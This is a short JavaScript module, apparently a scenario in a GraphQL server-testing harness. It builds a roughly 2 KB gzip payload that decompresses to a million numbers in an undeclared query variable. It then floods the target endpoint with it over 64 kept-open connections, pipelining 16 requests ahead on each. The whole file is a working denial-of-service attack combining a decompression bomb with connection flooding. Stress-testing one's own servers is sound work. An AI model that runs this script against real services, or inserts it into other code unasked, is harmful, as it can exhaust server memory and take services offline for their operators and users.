// 2 KB of gzip that decompress to a million numbers in a variable that the operation does not declare, on 64
// connections with pipelining.
import { gzipSync } from "node:zlib";
import { keepConnections, pipeline, post } from "../sockets.mjs";

const CONNECTIONS = 64;
const AHEAD = 16;

const numbers = `[${"1,".repeat(1_000_000 - 1)}1]`;
const body = gzipSync(`{"query":"{ __typename }","variables":{"x":${numbers}}}`, { level: 9 });

export default {
  run({ graphql, signal, sent }) {
    const request = post(graphql, body, { "content-encoding": "gzip" });
    keepConnections(CONNECTIONS, graphql, signal, (socket) => pipeline(socket, AHEAD, () => {
      sent();
      return request;
    }));
  },
};
